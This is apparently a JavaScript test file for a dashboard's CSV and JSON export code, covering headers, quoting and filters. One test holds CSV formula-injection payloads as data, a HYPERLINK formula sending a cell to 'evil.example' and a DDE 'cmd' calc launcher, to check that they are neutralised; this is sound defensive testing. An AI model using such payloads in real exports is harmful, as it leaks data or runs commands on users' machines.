// SPDX-License-Identifier: MIT
// export.js buildExport: what a widget's CSV and JSON downloads hold.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildExport, csvCell } from '../../web/js/export.js';
import { Series } from '../../web/js/store.js';
import { parseCSV } from './csv.mjs';

function samples() {
  const sr = new Series('demo.cpu');
  sr.setMeta({ title: 'CPU', unit: '%', fields: { user: { label: 'User' }, sys: { unit: 'ms' } } });
  sr.add({ ts: 1764300000000, seq: 1, fields: { user: 1.5, sys: 2, extra: 7 } });
  sr.add({ ts: 1764300001000, seq: 2, fields: { user: -3.25, sys: null, extra: 8 } });
  return sr;
}

function events() {
  const sr = new Series('ops.feed');
  sr.add({ ts: 1764300000000, seq: 1, level: 'info', text: 'plain' });
  sr.add({ ts: 1764300001000, seq: 2, level: 'warning', text: 'He said "hi, there",\nthen left' });
  sr.add({ ts: 1764300002000, seq: 3, level: 'error', text: 'boom' });
  return sr;
}

test('CSV of samples: header, ISO time, visible fields only, empty cells for missing values', () => {
  const f = buildExport(samples(), 'csv', { fields: ['user', 'sys'] });
  assert.match(f.name, /^demo\.cpu-\d{8}-\d{6}\.csv$/);
  assert.equal(f.type, 'text/csv;charset=utf-8');
  assert.equal(f.text.split('\r\n').length, 4, 'rows end with CRLF (RFC 4180)');
  assert.ok(f.text.endsWith('\r\n'));
  assert.deepEqual(parseCSV(f.text), [
    ['time', 'ts', 'seq', 'user', 'sys'],
    ['2025-11-28T03:20:00.000Z', '1764300000000', '1', '1.5', '2'],
    ['2025-11-28T03:20:01.000Z', '1764300001000', '2', '-3.25', ''],
  ]);
});

test('CSV without a field list: every field in display order', () => {
  const rows = parseCSV(buildExport(samples(), 'csv').text);
  assert.deepEqual(rows[0], ['time', 'ts', 'seq', 'user', 'sys', 'extra']);
});

test('CSV of events: levels filter, quoting of commas, quotes and newlines', () => {
  const sr = events();
  const all = buildExport(sr, 'csv');
  assert.ok(all.text.includes('"He said ""hi, there"",\nthen left"'), 'RFC 4180 quoting');
  assert.deepEqual(parseCSV(all.text).map((r) => r[3]), ['level', 'info', 'warning', 'error']);
  assert.equal(parseCSV(all.text)[2][4], 'He said "hi, there",\nthen left');
  const some = parseCSV(buildExport(sr, 'csv', { levels: ['info', 'error'] }).text);
  assert.deepEqual(some.map((r) => r[4]), ['text', 'plain', 'boom']);
});

test('CSV: numbers that are not finite are empty cells', () => {
  const sr = new Series('t');
  sr.add({ ts: 1, seq: 1, fields: { v: 1 } });
  sr.points[0].fields.v = Infinity; // (the store keeps what came; a column has null)
  assert.deepEqual(parseCSV(buildExport(sr, 'csv').text)[1].slice(3), ['']);
});

test('CSV: negative numbers stay numbers', () => {
  const rows = parseCSV(buildExport(samples(), 'csv', { fields: ['user'] }).text);
  assert.equal(rows[2][3], '-3.25');
});

// SPEC §7: "CSV exports quote cells that a spreadsheet would run as
// formulas" (SECURITY.md F6 and S7.4: a string cell starting with =, +, -,
// @, TAB or CR gets a leading '; numbers stay numbers).
test('CSV: text a spreadsheet would run as a formula is neutralised', () => {
  const sr = new Series('ops.feed');
  const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-1+2', '@SUM(A1)', '\tx', '\rx'];
  texts.forEach((text, i) => sr.add({ ts: i + 1, seq: i + 1, level: 'info', text }));
  const cells = parseCSV(buildExport(sr, 'csv').text).slice(1).map((r) => r[4]);
  assert.deepEqual(cells, texts.map((t) => `'${t}`));
  const fields = new Series('web.lat');
  fields.add({ ts: 1, seq: 1, fields: { "=cmd|'/c calc'!A0": 1 } });
  assert.equal(parseCSV(buildExport(fields, 'csv').text)[0][3], "'=cmd|'/c calc'!A0");
});

test('CSV formula rule: every string cell, never a number', () => {
  // A string field value, a level, a field name: strings, so guarded.
  const sr = new Series('t');
  sr.add({ ts: 1, seq: 1, fields: { '+f': -3.5, '-g': 0, '@h': -1e-7, plain: 2 } });
  sr.points[0].fields.plain = '-2+3'; // a string value (the store keeps what came)
  const rows = parseCSV(buildExport(sr, 'csv').text);
  assert.deepEqual(rows[0].slice(3), ["'+f", "'-g", "'@h", 'plain']);
  assert.deepEqual(rows[1].slice(3), ['-3.5', '0', '-1e-7', "'-2+3"], 'numbers stay numbers, -3.5 included');
  const ev = new Series('e');
  ev.add({ ts: 1, seq: 1, level: 'info', text: 'fine = ok' });
  ev.points[0].level = '=1'; // (the hub allows four levels; the rule does not rely on it)
  const er = parseCSV(buildExport(ev, 'csv').text)[1];
  assert.equal(er[3], "'=1", 'a level cell is guarded too');
  assert.equal(er[4], 'fine = ok', 'only the first character counts');
  assert.match(er[0], /^\d{4}-/, 'the time column is plain');
});

test('csvCell: quoting after the guard; null and non-finite are empty', () => {
  assert.equal(csvCell('=a,b'), '"\'=a,b"');
  assert.equal(csvCell('-"x"'), '"\'-""x"""');
  assert.equal(csvCell(-3.5), '-3.5');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(NaN), '');
  assert.equal(csvCell('a'), 'a');
  assert.equal(csvCell(' =x'), ' =x', 'a leading space is not a formula start in the rule');
});

test('JSON of samples: topic, title, unit, field labels and units, points', () => {
  const f = buildExport(samples(), 'json', { fields: ['user', 'sys'] });
  assert.match(f.name, /^demo\.cpu-\d{8}-\d{6}\.json$/);
  assert.equal(f.type, 'application/json');
  const j = JSON.parse(f.text);
  assert.equal(j.topic, 'demo.cpu');
  assert.equal(j.title, 'CPU');
  assert.equal(j.unit, '%');
  assert.equal(j.kind, 'sample');
  assert.ok(!Number.isNaN(Date.parse(j.exported_at)));
  assert.deepEqual(j.fields, { user: { label: 'User', unit: '%' }, sys: { label: 'sys', unit: 'ms' } });
  assert.deepEqual(j.points, [
    { ts: 1764300000000, time: '2025-11-28T03:20:00.000Z', seq: 1, fields: { user: 1.5, sys: 2 } },
    { ts: 1764300001000, time: '2025-11-28T03:20:01.000Z', seq: 2, fields: { user: -3.25, sys: null } },
  ]);
});

test('JSON of events: no fields, level filter, text as is', () => {
  const j = JSON.parse(buildExport(events(), 'json', { levels: ['warning'] }).text);
  assert.equal(j.title, 'ops.feed', 'no meta: the topic');
  assert.equal(j.unit, null);
  assert.equal(j.fields, undefined);
  assert.deepEqual(j.points, [
    { ts: 1764300001000, time: '2025-11-28T03:20:01.000Z', seq: 2, level: 'warning', text: 'He said "hi, there",\nthen left' },
  ]);
});
